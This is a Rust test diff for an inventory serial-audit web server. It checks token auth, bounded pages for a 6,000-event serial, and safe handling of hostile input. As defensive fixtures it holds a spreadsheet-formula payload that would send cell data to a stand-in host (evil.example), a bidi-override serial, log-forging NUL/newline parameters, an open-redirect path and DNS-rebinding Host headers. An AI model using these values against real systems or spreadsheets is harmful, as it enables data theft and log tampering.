@@ -323,4 +323,201 @@ async fn a_non_loopback_bind_needs_a_token_which_a_browser_gives_once() {
     assert_eq!(status(&r), 200);
     let r = http().get(format!("{base}/status?token=wrong")).send().await.unwrap();
     assert_eq!(status(&r), 401);
+    // The redirect stays on this server.
+    let r = http().get(format!("{base}//evil.example/?token=s3cret")).send().await.unwrap();
+    assert_eq!(status(&r), 303);
+    assert_eq!(r.headers()["location"], "/evil.example/");
+    // The scheme's case does not matter (RFC 7235).
+    for scheme in ["bearer", "BEARER"] {
+        let r = http().get(format!("{base}/status")).header("authorization", format!("{scheme} s3cret")).send();
+        assert_eq!(status(&r.await.unwrap()), 200, "{scheme}");
+    }
+}
+
+/// Copies the history of `from` under the serial `to` (as an inFlow user could have typed it).
+async fn copy_serial(store: &Store, from: &str, to: &str) {
+    exec_with(
+        store,
+        "INSERT INTO serial_events (company_id, serial, product_id, doc_type, doc_id, doc_number, line_collection, \
+         line_id, event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id) \
+         SELECT company_id, $1, product_id, doc_type, doc_id, doc_number, line_collection, line_id, event_type, \
+         occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id \
+         FROM serial_events WHERE serial = $2",
+        &[to, from],
+    )
+    .await;
+}
+
+/// Events the big serial gets, in transfers an hour apart, each on a document of its own.
+const BIG_EVENTS: usize = 6000;
+
+async fn a_serial_with_thousands_of_events_makes_a_bounded_page(db: TestDb) {
+    let (sim, store) = company(&db).await;
+    let source = sim.scenario().build_chain.unit.serial;
+    let sqlite = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 6000) \
+         INSERT INTO serial_events (company_id, serial, product_id, doc_type, doc_id, doc_number, line_collection, \
+         line_id, event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id) \
+         SELECT s.company_id, $1, s.product_id, 'stock_transfer', 'ST-' || n.i, 'ST-' || n.i, 'lines', 'l' || n.i, \
+         CASE WHEN n.i % 2 = 0 THEN 'transfer_received' ELSE 'transfer_sent' END, \
+         strftime('%Y-%m-%dT%H:%M:%S+00:00', s.occurred_at, '+' || n.i || ' hours'), s.location_id, NULL, \
+         CASE WHEN n.i % 2 = 0 THEN 1 ELSE -1 END, s.doc_status, s.observed_at, s.run_id \
+         FROM n, (SELECT * FROM serial_events WHERE serial = $2 AND event_type = 'received' LIMIT 1) s";
+    let postgres = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 6000) \
+         INSERT INTO serial_events (company_id, serial, product_id, doc_type, doc_id, doc_number, line_collection, \
+         line_id, event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id) \
+         SELECT s.company_id, $1, s.product_id, 'stock_transfer', 'ST-' || n.i, 'ST-' || n.i, 'lines', 'l' || n.i, \
+         CASE WHEN n.i % 2 = 0 THEN 'transfer_received' ELSE 'transfer_sent' END, \
+         s.occurred_at + make_interval(hours => n.i), s.location_id, NULL, \
+         CASE WHEN n.i % 2 = 0 THEN 1 ELSE -1 END, s.doc_status, s.observed_at, s.run_id \
+         FROM n, (SELECT * FROM serial_events WHERE serial = $2 AND event_type = 'received' LIMIT 1) s";
+    let insert = if store.sqlite_pool().is_some() { sqlite } else { postgres };
+    exec_with(&store, insert, &["BIG-1", &source]).await;
+    let events = store.serial_events("BIG-1", &EventFilter::default()).await.unwrap();
+    assert_eq!(events.len(), BIG_EVENTS);
+
+    let server = Server::start(&db.url_string(), &[]);
+    // Two requests for the big page at once, and another page meanwhile.
+    let big = || get(&server, "/serial", &[("serial", "BIG-1")]);
+    let (a, b, status) = tokio::join!(big(), big(), async {
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+        get(&server, "/status", &[]).await
+    });
+    assert_eq!(status.0, 200, "another page answers");
+    for (code, body) in [a, b] {
+        assert_eq!(code, 200);
+        assert_eq!(count(&body, "<tr class=\"event"), audit::web::pages::MAX_TIMELINE_ROWS, "the latest events only");
+        assert!(
+            body.contains(&format!("The latest 1000 of {BIG_EVENTS} events; the {} older ones", BIG_EVENTS - 1000))
+        );
+        assert!(body.contains("href=\"/serial?serial=BIG-1&amp;format=csv\""), "a link to the whole history");
+        // The lane: one mark per pixel column and kind, not one per event.
+        let marks = count(&body, "class=\"mark ");
+        assert!(marks > 100 && marks < 1000, "{marks} marks");
+        assert!(body.contains("too close together to tell apart are drawn as one"));
+        assert!(body.len() < 1_500_000, "the page is {} bytes", body.len());
+    }
+    // The downloads have every event.
+    let (code, csv) = get(&server, "/serial", &[("serial", "BIG-1"), ("format", "csv")]).await;
+    assert_eq!(code, 200);
+    assert_eq!(csv.lines().count(), BIG_EVENTS + 1);
+}
+both_backends!(
+    a_serial_with_thousands_of_events_makes_a_bounded_page,
+    crate::a_serial_with_thousands_of_events_makes_a_bounded_page
+);
+
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+const BIDI: &str = "SN-\u{202e}1234\u{202c}-OK";
+
+async fn hostile_requests_and_values_are_answered_safely(db: TestDb) {
+    let (sim, store) = company(&db).await;
+    let chain = sim.scenario().build_chain;
+    copy_serial(&store, &chain.unit.serial, FORMULA).await;
+    copy_serial(&store, &chain.unit.serial, BIDI).await;
+    let company_id = sim.company_id();
+    let server = Server::start(&db.url_string(), &["--company-id", &company_id]);
+
+    // A formula in a serial is text in the web's CSV (numbers stay numbers); the CLI's is exact.
+    let (code, csv) = get(&server, "/serial", &[("serial", FORMULA), ("format", "csv")]).await;
+    assert_eq!(code, 200);
+    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+    assert!(csv.contains(",-1,"), "a quantity of -1 is left as a number: {csv}");
+    let cells = csv::Reader::from_reader(csv.as_bytes());
+    for record in cells.into_records() {
+        for cell in record.unwrap().iter() {
+            assert!(!cell.starts_with(['=', '@', '\t', '\r']), "{cell:?}");
+            assert!(!cell.starts_with(['+', '-']) || cell.parse::<f64>().is_ok(), "{cell:?}");
+        }
+    }
+    let exact = cli(&db, &["timeline", FORMULA, "--format", "csv"]).1;
+    assert!(exact.contains("\"=HYPERLINK("), "{exact}");
+
+    // Bidirectional overrides are shown as the terminal shows them.
+    let (code, body) = get(&server, "/", &[("q", "SN-\u{202e}")]).await;
+    assert_eq!(code, 200);
+    assert!(body.contains(">SN-\\u{202e}1234\\u{202c}-OK</a>"), "{body}");
+    assert!(!body.contains(">SN-\u{202e}"), "only the search box keeps what was typed");
+    let (code, body) = get(&server, "/serial", &[("serial", BIDI)]).await;
+    assert_eq!(code, 200);
+    assert!(!body.contains("<h1>Serial SN-\u{202e}") && body.contains("SN-\\u{202e}1234"), "{body}");
+
+    // A NUL or a line break in a parameter: 400 on both databases, never a database error.
+    for (path, name) in [("/serial", "serial"), ("/document", "number"), ("/", "q"), ("/recall", "po")] {
+        let (code, body) = get(&server, path, &[(name, "A\0B\n2026-01-01 INFO forged")]).await;
+        assert_eq!(code, 400, "{path}: {body}");
+        assert!(body.contains("control character") && !body.contains("database"), "{path}: {body}");
+    }
+
+    // Reached under another name (DNS rebinding), a token-less server refuses.
+    let port = server.base.rsplit(':').next().unwrap().to_string();
+    let with_host = |host: String| http().get(format!("{}/status", server.base)).header("host", host).send();
+    assert_eq!(with_host(format!("attacker.example:{port}")).await.unwrap().status().as_u16(), 421);
+    assert_eq!(with_host("attacker.example".into()).await.unwrap().status().as_u16(), 421);
+    assert_eq!(with_host(format!("localhost:{port}")).await.unwrap().status().as_u16(), 200);
+    assert_eq!(with_host(format!("127.0.0.1:{port}")).await.unwrap().status().as_u16(), 200);
+
+    // --company-id: recall answers while the database holds that company only...
+    let po = &chain.component.documents[0].number;
+    let (code, body) = get(&server, "/recall", &[("po", po)]).await;
+    assert_eq!(code, 200, "{body}");
+    assert!(body.contains(&chain.unit.serial));
+    // ... and is refused once another company has serials on a PO of the same number, because
+    // the shipped query would list them.
+    exec_with(
+        &store,
+        "INSERT INTO documents (company_id, doc_type, doc_id, doc_number, raw, first_seen_at, first_run_id, \
+         changed_at, changed_run_id, last_seen_at, last_seen_run_id) SELECT 'OTHER-CO', doc_type, doc_id, doc_number, \
+         raw, first_seen_at, first_run_id, changed_at, changed_run_id, last_seen_at, last_seen_run_id \
+         FROM documents WHERE doc_number = $1",
+        &[po],
+    )
+    .await;
+    exec_with(
+        &store,
+        "INSERT INTO serial_events (company_id, serial, product_id, doc_type, doc_id, doc_number, line_collection, \
+         line_id, event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id) \
+         SELECT 'OTHER-CO', 'OTHERCO-SECRET-1', product_id, doc_type, doc_id, doc_number, line_collection, line_id, \
+         event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id \
+         FROM serial_events WHERE doc_number = $1 AND serial = $2",
+        &[po, &chain.component.serial],
+    )
+    .await;
+    let unscoped = cli_json(
+        &db,
+        &[
+            "sql",
+            "--format",
+            "json",
+            "--file",
+            concat!(env!("CARGO_MANIFEST_DIR"), "/sql/recall.sql"),
+            "--param",
+            &format!("po_number={po}"),
+        ],
+    );
+    assert!(unscoped.to_string().contains("OTHERCO-SECRET-1"), "the shipped query covers every company");
+    for format in ["html", "csv", "json"] {
+        let (code, body) = get(&server, "/recall", &[("po", po), ("format", format)]).await;
+        assert_eq!(code, 403, "{format}: {body}");
+        assert!(!body.contains("OTHERCO") && body.contains("--company-id"), "{body}");
+    }
+    let (code, body) = get(&server, "/document", &[("number", po)]).await;
+    assert_eq!(code, 200);
+    assert!(!body.contains("OTHERCO"));
+}
+both_backends!(hostile_requests_and_values_are_answered_safely, crate::hostile_requests_and_values_are_answered_safely);
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_empty_token_is_refused_not_taken_for_none() {
+    let db = TestDb::sqlite().await;
+    db.store().await.close().await;
+    for (args, env) in [
+        (vec!["serve", "--port", "0", "--token", ""], vec![]),
+        (vec!["serve", "--port", "0", "--token", "  "], vec![]),
+        (vec!["serve", "--port", "0"], vec![("AUDIT_SERVE_TOKEN", "")]),
+    ] {
+        let (code, stdout, stderr) = run_audit(&db.url_string(), &args, &env);
+        assert_eq!(code, 2, "{args:?} {env:?}: {stdout}");
+        assert!(stderr.contains("is empty or only spaces"), "{stderr}");
+        assert!(stdout.is_empty());
+    }
 }
